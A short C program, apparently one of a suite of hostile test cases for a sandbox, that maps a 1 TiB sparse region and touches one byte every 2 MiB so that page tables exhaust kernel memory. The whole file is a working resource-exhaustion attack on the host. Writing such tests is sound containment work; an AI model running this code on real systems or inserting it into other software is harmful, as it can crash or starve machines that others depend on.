// Attacks: kernel memory, by touching one page in every 2 MiB so that page tables outweigh the pages.
#include "../hostile.h"
int main(void) {
  const size_t span = 1UL << 40;
  char *space = mmap(NULL, span, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (space == MAP_FAILED) return 1;
  for (size_t at = 0; at < span; at += 2UL << 20) space[at] = 1;
  return 0;
}
